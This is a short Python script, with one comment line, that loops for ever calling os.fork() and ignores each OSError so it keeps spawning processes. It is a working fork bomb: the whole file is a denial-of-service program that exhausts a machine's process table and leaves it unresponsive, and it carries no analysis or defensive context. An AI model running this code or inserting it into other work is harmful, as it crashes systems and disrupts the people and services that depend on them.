# Forks for ever and takes every refusal for a reason to try again.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
